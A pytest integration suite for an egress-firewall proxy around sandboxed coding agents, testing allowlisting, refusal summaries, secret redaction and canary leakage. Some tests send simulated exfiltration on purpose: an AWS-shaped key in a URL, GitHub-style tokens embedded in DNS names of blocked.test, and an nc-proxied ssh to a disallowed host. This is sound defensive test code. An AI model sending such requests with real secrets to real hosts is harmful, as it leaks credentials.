"""The egress wall with the real proxy: what an allowed host gets, what a
refused one gets, and that the summary tells the user why."""

from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import subprocess
import tempfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from tests.conftest import trust_manifest
from tests.engine.conftest import cli
from tests.installed import cli_argv
from tests.sidecar.conftest import PROXY, Lab

# Every case here runs against the remote engine too (scripts/test.sh).
pytestmark = pytest.mark.remote_engine


def bottle_sh(
    project: Path, script: str, agent: str = "worker", **env: str
) -> subprocess.CompletedProcess[str]:
    return cli("run", agent, "--", "sh", "-c", script, cwd=project, env=env)


def test_allowed_host_through_the_proxy(lab_project: Path, lab: Lab) -> None:
    mark = secrets.token_hex(4)
    result = bottle_sh(
        lab_project,
        f"curl -sS -k https://allowed.test/{mark} && curl -sS http://allowed.test/{mark}",
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == "hello from allowed.test over https\nhello from allowed.test over http\n"
    assert lab.web_sees(mark)
    assert "allowed : allowed.test (x2)" in result.stderr


def test_blocked_host_is_refused_by_the_sidecar_and_summarised(lab_project: Path, lab: Lab) -> None:
    mark = secrets.token_hex(4)
    result = bottle_sh(
        lab_project,
        f"curl -sS -o /dev/null -w '%{{http_connect}}/%{{http_code}}' -k https://blocked.test/{mark}; "
        "echo /$?",
    )
    if PROXY == "squid":
        # The SNI check is on by default: Squid answers the refused tunnel itself, with its own
        # TLS (a certificate nobody trusts; -k takes it) and its 403 page.
        assert result.stdout == "200/403/0\n", result.stdout
    else:
        assert result.stdout.startswith("403/000/56"), result.stdout
    assert not lab.web_saw(mark)
    assert "refused : blocked.test" in result.stderr
    assert "blocked.test: host_not_allowed (host not in the allowlist)" in result.stderr


def test_an_allowed_host_that_fails_upstream_is_named_with_its_reason(lab_project: Path, lab: Lab) -> None:
    # dns.lab.test is the lab's DNS server: its name resolves, but nothing listens on 80 or 443.
    path = lab_project / "claude-bottle.json"
    manifest = json.loads(path.read_text())
    manifest["bottles"]["lab"]["egress"]["internal"].append("dns.lab.test")
    path.write_text(json.dumps(manifest))
    trust_manifest(path)
    mark = secrets.token_hex(4)
    result = bottle_sh(
        lab_project,
        f"curl -s -k -o /dev/null https://dns.lab.test/{mark}; echo tls=$?; "
        f"curl -s -o /dev/null -w '%{{http_code}}' http://dns.lab.test/{mark}; echo; "
        f"curl -sS -k -o /dev/null https://allowed.test/{mark}; echo control=$?",  # the positive control
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] != "tls=0", result.stdout
    assert lines[2] == "control=0", result.stdout
    # Not refused by the wall, not answered either: the summary says which, and why.
    assert "allowed : allowed.test\n" in result.stderr
    assert "refused : (nothing)" in result.stderr
    failed = re.search(r"failed  : dns\.lab\.test: (connection_\w+) \(", result.stderr)
    assert failed is not None, result.stderr
    assert failed.group(1) == ("connection_failed" if PROXY == "squid" else "connection_refused")
    assert "x2" in result.stderr.split("failed  : ")[1].splitlines()[0]


def test_every_kind_of_refusal_is_in_the_summary_with_its_reason(lab_project: Path, lab: Lab) -> None:
    key = "AKIA" + secrets.token_hex(8).upper()
    script = "; ".join(
        f"curl -sk -m 8 -o /dev/null {url}"
        for url in ("https://blocked.test/", "https://allowed.test:8443/", "https://private.lab.test/",
                    f"http://allowed.test/{key}")
    )  # fmt: skip
    result = bottle_sh(lab_project, script)
    assert result.returncode == 0, result.stderr
    for line in ("blocked.test: host_not_allowed", "allowed.test:8443: port_not_allowed",
                 "private.lab.test: private_address", "allowed.test: secret_in_request"):  # fmt: skip
        assert f"          {line} (" in result.stderr


def test_direct_connection_without_the_proxy_fails(lab_project: Path, lab: Lab) -> None:
    mark = secrets.token_hex(4)
    result = bottle_sh(
        lab_project,
        f"curl -s -o /dev/null -m 15 --noproxy '*' http://{lab.web_ip}/{mark}; echo direct=$?; "
        f"curl -s -o /dev/null http://allowed.test/ctl-{mark}; echo proxied=$?",
    )
    assert result.returncode == 0, result.stderr  # the bottle ran the whole script
    # Could not connect, and not a timeout: the default route Docker gives the agent names a
    # gateway address nobody holds (no host address on its bridge), so it fails at ARP.
    assert "direct=7\n" in result.stdout
    assert "proxied=0\n" in result.stdout  # the control: the same client, through the proxy
    assert lab.web_sees(f"/ctl-{mark}")
    lab.control(f"curl -s -o /dev/null http://{lab.web_ip}/direct-ctl-{mark}")  # the address answers
    assert lab.web_sees(f"/direct-ctl-{mark}")
    assert not lab.web_saw(f"/{mark}")


def test_the_real_claude_code_cli_talks_to_a_lab_api_through_the_sidecar(lab_project: Path, lab: Lab) -> None:
    result = cli(
        "run",
        "coder",
        "--",
        "sh",
        "-c",
        'printf "%s" "$LAB_CA" | base64 -d > ~/lab-ca.pem && claude --version && claude -p "say hello"',
        cwd=lab_project,
    )
    assert result.returncode == 0, result.stderr
    version, reply = result.stdout.strip().splitlines()[-2:]
    assert version.endswith("(Claude Code)")
    assert reply == "hello from the lab model"
    assert any(e.get("url", "").startswith("/v1/messages") for e in lab.web_log())
    assert "allowed : api.lab.test" in result.stderr


def test_the_real_claude_code_cli_through_a_plain_http_model_endpoint(lab_project: Path, lab: Lab) -> None:
    # An internal model gateway over plain HTTP, with a key of a real key's shape:
    # the default DLP must let Claude Code's own requests through. Pipelock cannot
    # exempt the model endpoint from its DLP, so there the launch is refused before
    # anything starts (tests/sidecar/test_pipelock.py: the same agent with dlp "warn").
    result = cli("run", "plain-coder", "--", "claude", "-p", "say hello", cwd=lab_project)
    if PROXY == "pipelock":
        assert result.returncode == 2, result.stderr
        assert "api.lab.test (ANTHROPIC_BASE_URL) is plain HTTP, and the pipelock egress" in result.stderr
        assert "allowed :" not in result.stderr  # no session: nothing was started
        return
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == "hello from the lab model"
    assert "allowed : api.lab.test" in result.stderr
    assert "secret_in_request" not in result.stderr


def test_git_clone_over_ssh_through_the_sidecar(lab_project: Path, lab: Lab) -> None:
    result = bottle_sh(
        lab_project, "git clone -q git@git.allowed.test:repo.git /tmp/r && cat /tmp/r/README", "gitter"
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout == "lab repository\n"


def test_ssh_to_a_host_outside_the_allowlist_fails(lab_project: Path, lab: Lab) -> None:
    result = bottle_sh(
        lab_project,
        # The agent's own ssh config's way through the sidecar, to a host it does not name.
        "via=$(awk '/ProxyCommand/ {print $6; exit}' ~/.ssh/config); "
        'ssh -o ProxyCommand="nc -X connect -x $via %h %p" -o ConnectTimeout=20 '
        "-o StrictHostKeyChecking=no -o BatchMode=yes git@ssh.blocked.test true; echo status=$?",
        "gitter",
    )
    assert "status=255" in result.stdout  # refused at once by the proxy (not the 20 s timeout: see below)
    assert "timed out" not in result.stdout + result.stderr
    assert "ssh.blocked.test:22: host_not_allowed" in result.stderr


def test_five_parallel_runs_of_one_agent(lab_project: Path, lab: Lab) -> None:
    with ThreadPoolExecutor(max_workers=5) as pool:
        results = list(
            pool.map(
                lambda i: bottle_sh(lab_project, f"curl -sS -k https://allowed.test/par{i}"),
                range(5),
            )
        )
    assert [r.returncode for r in results] == [0] * 5, [r.stderr for r in results]
    assert all(r.stdout == "hello from allowed.test over https\n" for r in results)


def test_secret_canary_never_leaks_on_the_host(lab_project: Path, lab: Lab, tmp_path: Path) -> None:
    canary = f"canary-{secrets.token_hex(8)}"
    digest = hashlib.sha256(canary.encode()).hexdigest()
    proc = subprocess.Popen(
        cli_argv("run", "worker", "--", "sh", "-c",
         # The value is inside (shown by its hash, never printed); the CLI is sampled meanwhile.
         'printf %s "$CANARY" | sha256sum | cut -d" " -f1 && sleep 2'),
        cwd=lab_project, env={**__import__("os").environ, "LAB_CANARY": canary},
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    seen_in_ps = []
    while proc.poll() is None:
        seen_in_ps.append(subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout)
    out, err = proc.communicate()
    assert proc.returncode == 0, err
    assert out == f"{digest}\n"
    assert len(seen_in_ps) > 3  # sampled while the session ran
    assert not any(canary in snapshot for snapshot in seen_in_ps)
    assert canary not in err
    plan = cli("start", "worker", "--dry-run", "--json", cwd=lab_project, env={"LAB_CANARY": canary})
    assert canary not in plan.stdout + plan.stderr
    # Wherever claude-bottle could write on the host: the home (cache, data,
    # state, config), the temporary folder, and the test's project.
    leftovers = subprocess.run(
        ["grep", "-rl", canary, tempfile.gettempdir(), str(Path.home()), str(lab_project)],
        capture_output=True, text=True,
    )  # fmt: skip
    assert leftovers.stdout == ""


def test_a_refused_host_holding_a_secret_is_redacted_in_the_summary_the_log_and_egress(
    lab_project: Path, lab: Lab, tmp_path: Path
) -> None:
    # Issue 20: a host the wall refused, such as ghp_<36 characters>.blocked.test (a
    # token sent out in a DNS name), was printed and stored verbatim.
    token = "ghp_" + secrets.token_hex(18)
    agent = f"leaky-{secrets.token_hex(3)}"
    manifest = lab_project / "claude-bottle.json"
    data = json.loads(manifest.read_text())
    data["agents"][agent] = {"bottle": "lab"}
    manifest.write_text(json.dumps(data))
    trust_manifest(manifest)
    work = tmp_path / "work"
    work.mkdir()
    env = {**os.environ, "XDG_DATA_HOME": str(tmp_path / "data")}
    script = (f"curl -sk -m 8 -o /dev/null https://{token}.blocked.test/; "
              f"curl -s -m 8 -o /dev/null http://x.{token}.blocked.test/; "
              "curl -s -m 8 -o /dev/null http://blocked.test/; echo sent; sleep 300")  # fmt: skip
    session = subprocess.Popen(
        cli_argv("run", "--cwd", "--manifest", str(manifest), agent, "--", "sh", "-c", script),
        cwd=work, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    try:
        assert session.stdout is not None
        assert session.stdout.readline() == "sent\n"
        listed = cli("egress", agent, "--json", cwd=work)
        follow = subprocess.Popen(cli_argv("egress", agent, "--follow"), cwd=work, env=env,
                                  stdout=subprocess.PIPE, text=True)  # fmt: skip
        assert follow.stdout is not None
        followed = [follow.stdout.readline() for _ in range(3)]  # what was logged so far comes first
        follow.terminate()
        follow.communicate(timeout=30)
    finally:
        session.terminate()
        _, summary = session.communicate(timeout=120)
    (folder,) = (tmp_path / "data" / "claude-bottle" / "sessions").iterdir()
    stored = (folder / "egress.jsonl").read_text() + (folder / "session.json").read_text()
    for shown in (summary, listed.stdout, "".join(followed), stored):
        assert token not in shown
        assert "<redacted>.blocked.test" in shown
        assert "blocked.test" in shown.replace("<redacted>.blocked.test", "")  # the control, shown as it is
    assert "refused : " in summary
    assert not any(token in query for query in lab.dns_queries())  # refused before any lookup
